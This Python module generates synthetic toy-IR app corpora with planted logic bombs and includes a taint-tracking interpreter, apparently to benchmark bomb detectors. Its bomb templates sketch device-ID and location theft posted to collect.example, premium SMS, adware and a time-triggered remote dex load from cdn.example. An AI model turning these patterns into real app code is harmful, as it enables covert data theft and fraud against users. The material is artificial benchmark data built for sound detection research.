"""Synthetic TIR corpora with planted logic bombs, and a concrete interpreter
that tags values with their sources (used as a dynamic oracle for taint).

Each app has an entry ``App.main`` that calls one method per planted trigger.
Benign triggers branch on the same source families as bombs but guard little
or no sensitive behavior; bombs guard sensitive payloads on one branch only.
Every template declares, line by line, which branch of its trigger a statement
belongs to, and expected feature vectors are derived from those declarations.
"""

from __future__ import annotations

import itertools
import json
import random
import re
from dataclasses import dataclass, field
from pathlib import Path
from typing import Optional, Union

from .catalog import Catalog, default_catalog, family
from .features import FeatureVector, jaccard_distance
from .tir import (Assign, BinOp, Call, FieldLoad, FieldStore, Goto, If, Program, Return, Var,
                  VoidCall, emit_program, parse_program)

BENIGN_TEMPLATES = ("null_check", "ui_state", "config", "retry_loop")
BOMB_TEMPLATES = ("emulator_exfil", "country_sms", "screen_adware", "deviceid_stealer", "time_bomb")

DEFAULT_STEP_LIMIT = 100_000


# -- spec and ground truth ---------------------------------------------------


@dataclass
class CorpusSpec:
    seed: int = 0
    apps: int = 10
    bomb_rate: float = 0.0
    benign_weights: dict = field(default_factory=lambda: {
        "null_check": 3.0, "ui_state": 3.0, "config": 3.0, "retry_loop": 1.0})
    bomb_weights: dict = field(default_factory=lambda: {t: 1.0 for t in BOMB_TEMPLATES})
    triggers_per_app: tuple = (2, 5)
    noise_ifs: tuple = (0, 2)
    prefix: str = "app"

    def __post_init__(self):
        self.triggers_per_app = tuple(self.triggers_per_app)
        self.noise_ifs = tuple(self.noise_ifs)
        for name, weights, known in (("benign_weights", self.benign_weights, BENIGN_TEMPLATES),
                                     ("bomb_weights", self.bomb_weights, BOMB_TEMPLATES)):
            unknown = set(weights) - set(known)
            if unknown:
                raise ValueError(f"{name}: unknown template {sorted(unknown)[0]!r}")
            if any(w < 0 for w in weights.values()):
                raise ValueError(f"{name}: weights must be >= 0")
        if not any(w > 0 for w in self.benign_weights.values()):
            raise ValueError("at least one benign template must have positive weight")
        if self.bomb_rate > 0 and not any(w > 0 for w in self.bomb_weights.values()):
            raise ValueError("bomb_rate > 0 needs a bomb template with positive weight")
        if not 0 <= self.bomb_rate <= 1:
            raise ValueError("bomb_rate must lie in [0, 1]")
        lo, hi = self.triggers_per_app
        if not 1 <= lo <= hi:
            raise ValueError("triggers_per_app must be (lo, hi) with 1 <= lo <= hi")

    @property
    def loop_free(self) -> bool:
        return self.benign_weights.get("retry_loop", 0) == 0

    def to_dict(self) -> dict:
        return {"seed": self.seed, "apps": self.apps, "bomb_rate": self.bomb_rate,
                "benign_weights": dict(self.benign_weights), "bomb_weights": dict(self.bomb_weights),
                "triggers_per_app": list(self.triggers_per_app), "noise_ifs": list(self.noise_ifs),
                "prefix": self.prefix}

    @classmethod
    def from_dict(cls, d: dict) -> "CorpusSpec":
        return cls(**d)


@dataclass
class PlantedTrigger:
    method: str
    label: str
    template: str
    is_bomb: bool
    trigger_type: str
    vector: FeatureVector

    def to_dict(self) -> dict:
        return {"method": self.method, "label": self.label, "template": self.template,
                "is_bomb": self.is_bomb, "trigger_type": self.trigger_type,
                "vector": self.vector.to_dict()}

    @classmethod
    def from_dict(cls, d: dict) -> "PlantedTrigger":
        return cls(d["method"], d["label"], d["template"], d["is_bomb"], d["trigger_type"],
                   FeatureVector.from_dict(d["vector"]))


@dataclass
class AppTruth:
    has_bomb: bool
    triggers: list[PlantedTrigger]
    # finite input domain per external signature / source field
    inputs: dict[str, list]

    @property
    def bombs(self) -> list[PlantedTrigger]:
        return [t for t in self.triggers if t.is_bomb]

    def to_dict(self) -> dict:
        return {"has_bomb": self.has_bomb, "inputs": self.inputs,
                "triggers": [t.to_dict() for t in self.triggers]}

    @classmethod
    def from_dict(cls, d: dict) -> "AppTruth":
        return cls(d["has_bomb"], [PlantedTrigger.from_dict(t) for t in d["triggers"]], d["inputs"])


@dataclass
class GroundTruth:
    spec: CorpusSpec
    apps: dict[str, AppTruth]

    def to_dict(self) -> dict:
        return {"spec": self.spec.to_dict(),
                "apps": {k: v.to_dict() for k, v in sorted(self.apps.items())}}

    @classmethod
    def from_dict(cls, d: dict) -> "GroundTruth":
        return cls(CorpusSpec.from_dict(d["spec"]),
                   {k: AppTruth.from_dict(v) for k, v in d["apps"].items()})

    def dumps(self) -> str:
        return json.dumps(self.to_dict(), indent=1, sort_keys=True) + "\n"


# -- templates ---------------------------------------------------------------

# A body line is (label, instruction text, branch mark); the mark is "T"/"F"
# when the line belongs to the true/false branch of the template's trigger.
Line = tuple


@dataclass
class MethodSpec:
    cls: str
    name: str
    params: tuple
    lines: list

    def text(self) -> str:
        body = "\n".join(f"    {lbl}: {ins}" for lbl, ins, _ in self.lines)
        return f"  {self.name}({', '.join(self.params)}) {{\n{body}\n  }}"


@dataclass
class Planted:
    template: str
    is_bomb: bool
    source: str
    methods: list
    trigger: Optional[tuple]        # (method key, label)
    inputs: dict
    P: int = 0
    M1: int = 0


def _helper(k: int, name: str, params: tuple, lines: list, mark: Optional[str]) -> MethodSpec:
    return MethodSpec("Helper", f"{name}{k}", params, [(l, i, mark) for l, i in lines])


def _str(s: str) -> str:
    return json.dumps(s)


_NULL_SOURCES = (
    ("Db.getString", "Database"), ("Sys.getProperty", "System"),
    ("Wifi.getConnectionInfo", "Wi-Fi"), ("Tel.getNetworkOperatorName", "Telephony"),
    ("Conn.getActiveNetworkInfo", "Connectivity"), ("Tel.getDeviceId", "Telephony"),
    ("Build.MODEL", "Build"),
)
_STATE_SOURCES = ("Power.isScreenOn", "Power.isInteractive", "Wifi.isWifiEnabled", "Audio.isMusicActive")
_CONFIG_SOURCES = (("Net.getResponseCode", 200, (200, 500)), ("Db.getInt", 3, (3, 0)),
                   ("Audio.getStreamVolume", 5, (5, 1)), ("Db.getCount", 1, (1, 0)))


def _source_line(label: str, var: str, src: str, args: str = "") -> tuple:
    if src.startswith("Build."):
        return (label, f"{var} = field {src}", None)
    return (label, f"{var} = {src}({args})", None)


def tpl_null_check(rng: random.Random, k: int) -> Planted:
    src, _ = rng.choice(_NULL_SOURCES)
    use_value = rng.random() < 0.7
    lines = [
        ("l0", "key = " + _str(f"pref{k}"), None),
        _source_line("l1", "v", src, "key" if src.startswith("Db.") or src.startswith("Sys.") else ""),
        ("l2", 'if v == "" goto l5', None),
        ("l3", f"call Ui.setText({'v' if use_value else 'key'})", "F"),
        ("l4", "goto l6", "F"),
        ("l5", "call Ui.setText(key)", "T"),
        ("l6", "return", None),
    ]
    m = MethodSpec("App", f"t{k}", (), lines)
    return Planted("null_check", False, src, [m], (f"App.t{k}/0", "l2"),
                   {src: ["", "value"]}, P=int(use_value))


def tpl_ui_state(rng: random.Random, k: int) -> Planted:
    src = rng.choice(_STATE_SOURCES)
    lines = [
        ("l0", f"s = {src}()", None),
        ("l1", "if s == 1 goto l4", None),
        ("l2", "call Ui.dim()", "F"),
        ("l3", "goto l5", "F"),
        ("l4", "call Ui.refresh()", "T"),
        ("l5", "return", None),
    ]
    m = MethodSpec("App", f"t{k}", (), lines)
    return Planted("ui_state", False, src, [m], (f"App.t{k}/0", "l1"), {src: [0, 1]})


def tpl_config(rng: random.Random, k: int) -> Planted:
    src, ok, domain = rng.choice(_CONFIG_SOURCES)
    variant = rng.choice(("plain", "plain", "fetch", "dialog"))
    methods = []
    m1 = 0
    if variant == "fetch":
        # same sensitive call on both branches: J = 0
        t_lines = [("l5", "c2 = Net.openConnection(u)", "T"), ("l6", "call Ui.show(c2)", "T")]
        f_lines = [("l3", "c1 = Net.openConnection(u)", "F"), ("l4", "goto l7", "F")]
    elif variant == "dialog":
        t_lines = [("l5", f"call Helper.dialog{k}(u)", "T"), ("l6", "call Ui.show(u)", "T")]
        f_lines = [("l3", "call Log.e(u)", "F"), ("l4", "goto l7", "F")]
        methods.append(_helper(k, "dialog", ("m",), [("l0", "call Ui.alert(m)"), ("l1", "return")], "T"))
        m1 = 1
    else:
        t_lines = [("l5", "call Ui.show(c)", "T"), ("l6", "call Ui.show(u)", "T")]
        f_lines = [("l3", "call Log.e(u)", "F"), ("l4", "goto l7", "F")]
    lines = [
        ("l0", "u = " + _str(f"https://cfg.example/{k}"), None),
        ("l1", f"c = {src}(u)", None),
        ("l2", f"if c == {ok} goto l5", None),
        *f_lines, *t_lines,
        ("l7", "return", None),
    ]
    methods.insert(0, MethodSpec("App", f"t{k}", (), lines))
    p = int(variant == "plain")
    return Planted("config", False, src, methods, (f"App.t{k}/0", "l2"), {src: list(domain)},
                   P=p, M1=m1)


def tpl_retry_loop(rng: random.Random, k: int) -> Planted:
    src = "Net.getResponseCode"
    lines = [
        ("l0", "u = " + _str(f"https://api.example/{k}"), None),
        ("l1", "i = 0", None),
        ("l2", f"c = {src}(u)", None),
        ("l3", "if c == 200 goto l8", None),
        ("l4", "i = i + 1", "F"),
        ("l5", "if i < 3 goto l2", "F"),
        ("l6", "call Log.e(u)", "F"),
        ("l7", "return", "F"),
        ("l8", "call Ui.show(c)", "T"),
        ("l9", "return", "T"),
    ]
    m = MethodSpec("App", f"t{k}", (), lines)
    return Planted("retry_loop", False, src, [m], (f"App.t{k}/0", "l3"), {src: [200, 500]}, P=1)


_PAYLOADS = ("Contacts.query", "Acct.getAccounts", "Pm.getInstalledPackages", "Audio.startRecording",
             "Tel.getSubscriberId", "Tel.getLine1Number", "Sms.getMessages", "Cam.open")


def _extra_payload(rng: random.Random, label_base: int, mark: str, arg: str) -> list:
    picks = rng.sample(_PAYLOADS, rng.randint(0, 2))
    return [(f"l{label_base + i}", f"x{i} = {sig}({arg})", mark) for i, sig in enumerate(picks)]


def tpl_emulator_exfil(rng: random.Random, k: int) -> Planted:
    fld = rng.choice(("Build.FINGERPRINT", "Build.MODEL", "Build.PRODUCT", "Build.HARDWARE"))
    m = MethodSpec("App", f"t{k}", (), [
        ("l0", f"e = Helper.check{k}()", None),
        ("l1", "if e == 1 goto l4", None),
        ("l2", f"call Helper.payload{k}()", "F"),
        ("l3", "return", "F"),
        ("l4", "call Sys.exit()", "T"),
        ("l5", "return", "T"),
    ])
    check = _helper(k, "check", (), [
        ("l0", f"f = field {fld}"),
        ("l1", 'g = "generic"'),
        ("l2", "r = Str.contains(f, g)"),
        ("l3", "return r"),
    ], None)
    extra = _extra_payload(rng, 4, "F", "n")
    payload = MethodSpec("Helper", f"payload{k}", (), [
        ("l0", "id = Tel.getDeviceId()", "F"),
        ("l1", 'n = "+15550100"', "F"),
        ("l2", "call Sms.sendTextMessage(n, id)", "F"),
        ("l3", "call Svc.startService(n)", "F"),
        *extra,
        (f"l{4 + len(extra)}", "return", "F"),
    ])
    return Planted("emulator_exfil", True, f"BuildClass.get{fld.replace('.', '_')}",
                   [m, check, payload], (f"App.t{k}/0", "l1"),
                   {fld: ["generic_x86", "google/walleye"], "Str.contains": [0, 1]}, P=0, M1=1)


def tpl_country_sms(rng: random.Random, k: int) -> Planted:
    extra = _extra_payload(rng, 8, "T", "n")
    m = MethodSpec("App", f"t{k}", (), [
        ("l0", "cc = Tel.getNetworkCountryIso()", None),
        ("l1", 'if cc == "us" goto l3', None),
        ("l2", "return", "F"),
        ("l3", 'n = "+19005550123"', "T"),
        ("l4", 'msg = "SUB"', "T"),
        ("l5", "call Sms.sendTextMessage(n, msg)", "T"),
        ("l6", "loc = Gps.getLastKnownLocation()", "T"),
        ("l7", "call Refl.invoke(msg)", "T"),
        *extra,
        (f"l{8 + len(extra)}", "return", "T"),
    ])
    return Planted("country_sms", True, "Tel.getNetworkCountryIso", [m], (f"App.t{k}/0", "l1"),
                   {"Tel.getNetworkCountryIso": ["us", "fr"]}, P=0, M1=0)


def tpl_screen_adware(rng: random.Random, k: int) -> Planted:
    src = rng.choice(("Power.isScreenOn", "Power.isInteractive"))
    m = MethodSpec("App", f"t{k}", (), [
        ("l0", f"s = {src}()", None),
        ("l1", "if s == 0 goto l3", None),
        ("l2", "return", "F"),
        ("l3", f"call Helper.ads{k}()", "T"),
        ("l4", "return", "T"),
    ])
    extra = _extra_payload(rng, 5, "T", "u")
    ads = MethodSpec("Helper", f"ads{k}", (), [
        ("l0", 'u = "https://ads.example/i"', "T"),
        ("l1", "call Svc.startService(u)", "T"),
        ("l2", "c = Net.openConnection(u)", "T"),
        ("l3", "call Refl.forName(u)", "T"),
        ("l4", "call Ui.overlay(c)", "T"),
        *extra,
        (f"l{5 + len(extra)}", "return", "T"),
    ])
    return Planted("screen_adware", True, src, [m, ads], (f"App.t{k}/0", "l1"), {src: [0, 1]},
                   P=0, M1=1)


def tpl_deviceid_stealer(rng: random.Random, k: int) -> Planted:
    m = MethodSpec("App", f"t{k}", (), [
        ("l0", "id = Tel.getDeviceId()", None),
        ("l1", 'if id != "" goto l3', None),
        ("l2", "return", "F"),
        ("l3", f"call Helper.steal{k}(id)", "T"),
        ("l4", "return", "T"),
    ])
    extra = _extra_payload(rng, 6, "T", "c")
    steal = MethodSpec("Helper", f"steal{k}", ("d",), [
        ("l0", "loc = Gps.getLastKnownLocation()", "T"),
        ("l1", "acc = Acct.getAccounts()", "T"),
        ("l2", 'u = "https://collect.example/up"', "T"),
        ("l3", "c = Net.openConnection(u)", "T"),
        ("l4", "call Net.post(c, d)", "T"),
        ("l5", "call Net.post(c, loc)", "T"),
        *extra,
        (f"l{6 + len(extra)}", "return", "T"),
    ])
    return Planted("deviceid_stealer", True, "Tel.getDeviceId", [m, steal], (f"App.t{k}/0", "l1"),
                   {"Tel.getDeviceId": ["", "358240051111110"]}, P=1, M1=1)


def tpl_time_bomb(rng: random.Random, k: int) -> Planted:
    extra = _extra_payload(rng, 7, "T", "u")
    m = MethodSpec("App", f"t{k}", (), [
        ("l0", "t = Sys.currentTimeMillis()", None),
        ("l1", "if t > 1767225600000 goto l3", None),
        ("l2", "return", "F"),
        ("l3", 'u = "https://cdn.example/p.dex"', "T"),
        ("l4", "call DexLoader.load(u)", "T"),
        ("l5", "call Sys.loadLibrary(u)", "T"),
        ("l6", "call File.write(u)", "T"),
        *extra,
        (f"l{7 + len(extra)}", "return", "T"),
    ])
    return Planted("time_bomb", True, "Sys.currentTimeMillis", [m], (f"App.t{k}/0", "l1"),
                   {"Sys.currentTimeMillis": [1700000000000, 1800000000000]}, P=0, M1=0)


TEMPLATES = {
    "null_check": tpl_null_check, "ui_state": tpl_ui_state, "config": tpl_config,
    "retry_loop": tpl_retry_loop, "emulator_exfil": tpl_emulator_exfil,
    "country_sms": tpl_country_sms, "screen_adware": tpl_screen_adware,
    "deviceid_stealer": tpl_deviceid_stealer, "time_bomb": tpl_time_bomb,
}


def _noise(rng: random.Random, k: int) -> MethodSpec:
    c = rng.randint(1, 9)
    return MethodSpec("App", f"n{k}", (), [
        ("l0", f"x = {c}", None),
        ("l1", "y = x * 2", None),
        ("l2", "if y > 10 goto l5", None),
        ("l3", "call Ui.log(y)", None),
        ("l4", "goto l6", None),
        ("l5", "call Ui.log(x)", None),
        ("l6", "return", None),
    ])


# -- expected vectors --------------------------------------------------------

_CALL_SIG = re.compile(r"(?:^|=\s*|call\s+)([A-Za-z_]\w*\.[A-Za-z_]\w*)\(")


def _call_sig(ins: str) -> Optional[str]:
    m = _CALL_SIG.search(ins)
    return m.group(1) if m else None


def _expected_vector(pl: Planted, others: list, cat: Catalog) -> FeatureVector:
    """Feature vector implied by the template's branch marks. `others` are
    the call signatures of every line of the app outside this trigger's
    guarded code."""
    t_calls, f_calls = set(), set()
    for m in pl.methods:
        for _, ins, mark in m.lines:
            sig = _call_sig(ins)
            if sig is None:
                continue
            if mark == "T":
                t_calls.add(sig)
            elif mark == "F":
                f_calls.add(sig)
    g = t_calls | f_calls
    sens = g & cat.sensitive
    elsewhere = set(others)
    return FeatureVector(
        S=len(sens),
        N=int(bool(g & cat.native)), D=int(bool(g & cat.dynload)),
        R=int(bool(g & cat.reflect)), B=int(bool(g & cat.service)),
        P=pl.P, M1=pl.M1, S1=len(sens - elsewhere),
        J=jaccard_distance(t_calls & cat.sensitive, f_calls & cat.sensitive),
    )


# -- generation --------------------------------------------------------------


def _pick(rng: random.Random, weights: dict, names: tuple) -> str:
    names = [n for n in names if weights.get(n, 0) > 0]
    return rng.choices(names, weights=[weights[n] for n in names])[0]


def generate_app(rng: random.Random, spec: CorpusSpec, with_bomb: bool,
                 cat: Optional[Catalog] = None) -> tuple[Program, AppTruth]:
    cat = cat or default_catalog()
    n_trig = rng.randint(*spec.triggers_per_app)
    kinds = [_pick(rng, spec.benign_weights, BENIGN_TEMPLATES) for _ in range(n_trig)]
    if with_bomb:
        kinds[rng.randrange(n_trig)] = _pick(rng, spec.bomb_weights, BOMB_TEMPLATES)
    planted = [TEMPLATES[kind](rng, k) for k, kind in enumerate(kinds)]
    noise = [_noise(rng, k) for k in range(rng.randint(*spec.noise_ifs))]

    calls = [m.name for m in noise]
    order = [f"t{k}" for k in range(n_trig)] + calls
    rng.shuffle(order)
    main_lines = [(f"l{i}", f"call App.{name}()", None) for i, name in enumerate(order)]
    main_lines.append((f"l{len(order)}", "return", None))

    app_methods = [m for pl in planted for m in pl.methods if m.cls == "App"] + noise
    helper_methods = [m for pl in planted for m in pl.methods if m.cls == "Helper"]
    text = "class App {\n  entry main() {\n"
    text += "\n".join(f"    {l}: {i}" for l, i, _ in main_lines) + "\n  }\n"
    text += "\n".join(m.text() for m in app_methods) + "\n}\n"
    if helper_methods:
        text += "class Helper {\n" + "\n".join(m.text() for m in helper_methods) + "\n}\n"
    program = parse_program(text)

    # call signatures per planted template, split into own-guarded and the rest
    all_lines = [(None, ins) for _, ins, _ in main_lines]
    all_lines += [(None, ins) for m in noise for _, ins, _ in m.lines]
    for idx, pl in enumerate(planted):
        all_lines += [(idx if mark else None, ins) for m in pl.methods for _, ins, mark in m.lines]
    triggers = []
    inputs: dict[str, list] = {}
    for idx, pl in enumerate(planted):
        others = [_call_sig(ins) for owner, ins in all_lines if owner != idx]
        vec = _expected_vector(pl, [s for s in others if s], cat)
        method, label = pl.trigger
        triggers.append(PlantedTrigger(method, label, pl.template, pl.is_bomb, family(pl.source), vec))
        for sig, dom in pl.inputs.items():
            merged = inputs.setdefault(sig, [])
            merged.extend(v for v in dom if v not in merged)
    return program, AppTruth(with_bomb, triggers, inputs)


def generate(spec: CorpusSpec, cat: Optional[Catalog] = None) -> tuple[dict[str, Program], GroundTruth]:
    """Deterministic in `spec.seed`. Returns programs keyed by file name."""
    cat = cat or default_catalog()
    rng = random.Random(spec.seed)
    n_bombs = round(spec.bomb_rate * spec.apps)
    bomb_apps = set(rng.sample(range(spec.apps), n_bombs))
    width = max(4, len(str(spec.apps - 1)))
    corpus, truth = {}, {}
    for i in range(spec.apps):
        name = f"{spec.prefix}_{i:0{width}d}.tir"
        corpus[name], truth[name] = generate_app(rng, spec, i in bomb_apps, cat)
    return corpus, GroundTruth(spec, truth)


def write_corpus(out_dir: Union[str, Path], corpus: dict[str, Program], truth: GroundTruth) -> None:
    out = Path(out_dir)
    out.mkdir(parents=True, exist_ok=True)
    for name, p in sorted(corpus.items()):
        (out / name).write_text(emit_program(p), encoding="utf-8")
    (out / "truth.json").write_text(truth.dumps(), encoding="utf-8")


def load_truth(path: Union[str, Path]) -> GroundTruth:
    return GroundTruth.from_dict(json.loads(Path(path).read_text(encoding="utf-8")))


# -- concrete interpreter ----------------------------------------------------


class StepLimitExceeded(RuntimeError):
    pass


@dataclass
class Trace:
    executed: list = field(default_factory=list)           # (method, label)
    tagged_conditions: set = field(default_factory=set)    # (method, label)
    # (method, label, {var: value}) before each executed statement
    states: list = field(default_factory=list)


def _binop(op: str, a, b):
    if op in ("==", "!="):
        r = a == b
        return int(r if op == "==" else not r)
    if op in ("<", "<=", ">", ">="):
        if type(a) is not type(b):
            a, b = str(a), str(b)
        return int({"<": a < b, "<=": a <= b, ">": a > b, ">=": a >= b}[op])
    if isinstance(a, str) or isinstance(b, str):
        return str(a) + str(b) if op == "+" else 0
    if op in ("/", "%") and b == 0:
        return 0
    return {"+": a + b, "-": a - b, "*": a * b, "/": int(a / b) if b else 0, "%": a % b if b else 0,
            "&": a & b, "|": a | b, "^": a ^ b}[op]


class _Interp:
    def __init__(self, p: Program, inputs: dict, cat: Catalog, getters: dict, step_limit: int,
                 record_states: bool):
        self.methods = p.method_map()
        self.inputs = inputs
        self.cat = cat
        self.getters = getters
        self.steps = 0
        self.step_limit = step_limit
        self.record = record_states
        self.globals: dict[str, tuple] = {}
        self.trace = Trace()

    def source_value(self, sig: str) -> tuple:
        return (self.inputs.get(sig, 0), frozenset({sig}))

    def call(self, c: Call, env: dict) -> tuple:
        sig = c.signature
        args = [env.get(a, (0, frozenset())) for a in c.args]
        if c.key in self.methods:
            return self.run(self.methods[c.key], args)
        if sig in self.getters:
            return self.source_value(self.getters[sig])
        if c.cls == "IfClass":
            return (0, frozenset())
        if sig in self.cat.sources:
            return self.source_value(sig)
        tags = frozenset().union(*(t for _, t in args)) if args else frozenset()
        return (self.inputs.get(sig, 0), tags)

    def operand(self, o, env: dict) -> tuple:
        if isinstance(o, Var):
            return env.get(o.name, (0, frozenset()))
        return (o.value, frozenset())

    def run(self, m, args: list) -> tuple:
        env = dict(zip(m.params, args))
        index = m.index()
        pc = 0
        while True:
            self.steps += 1
            if self.steps > self.step_limit:
                raise StepLimitExceeded(f"more than {self.step_limit} steps")
            s = m.body[pc]
            self.trace.executed.append((m.key, s.label))
            if self.record:
                self.trace.states.append((m.key, s.label, {k: v for k, (v, _) in env.items()}))
            ins = s.instr
            pc += 1
            if isinstance(ins, Assign):
                rhs = ins.rhs
                if isinstance(rhs, Call):
                    val = self.call(rhs, env)
                elif isinstance(rhs, FieldLoad):
                    if rhs.signature in self.cat.source_fields:
                        val = self.source_value(rhs.signature)
                    else:
                        val = self.globals.get(rhs.signature, (0, frozenset()))
                elif isinstance(rhs, BinOp):
                    a, ta = env.get(rhs.left, (0, frozenset()))
                    b, tb = self.operand(rhs.right, env)
                    val = (_binop(rhs.op, a, b), ta | tb)
                else:
                    val = self.operand(rhs, env)
                env[ins.target] = val
            elif isinstance(ins, VoidCall):
                self.call(ins.call, env)
            elif isinstance(ins, FieldStore):
                self.globals[ins.signature] = env.get(ins.value, (0, frozenset()))
            elif isinstance(ins, If):
                a, ta = self.operand(ins.left, env)
                b, tb = self.operand(ins.right, env)
                if ta or tb:
                    self.trace.tagged_conditions.add((m.key, s.label))
                if _binop(ins.op, a, b):
                    pc = index[ins.target]
            elif isinstance(ins, Goto):
                pc = index[ins.target]
            elif isinstance(ins, Return):
                if ins.value is None:
                    return (0, frozenset())
                return env.get(ins.value, (0, frozenset()))


def interpret(p: Program, inputs: dict, tag_sources: Catalog, getters: Optional[dict] = None,
              step_limit: int = DEFAULT_STEP_LIMIT, record_states: bool = False) -> Trace:
    """Run every entry method of `p` once.

    `inputs` binds the return value of external calls and source fields by
    signature (unbound ones yield 0). Values from catalog sources carry their
    signature as a tag; tags flow through assignments, arithmetic, fields,
    parameters, returns and bodyless calls. `getters` maps generated
    ``BuildClass`` getter names to the field they stand for.
    """
    it = _Interp(p, inputs, tag_sources, getters or {}, step_limit, record_states)
    for m in p.methods():
        if m.is_entry:
            it.run(m, [(0, frozenset())] * len(m.params))
    return it.trace


def input_bindings(domains: dict[str, list]):
    """Every combination of the finite input domains."""
    keys = sorted(domains)
    for combo in itertools.product(*(domains[k] for k in keys)):
        yield dict(zip(keys, combo))
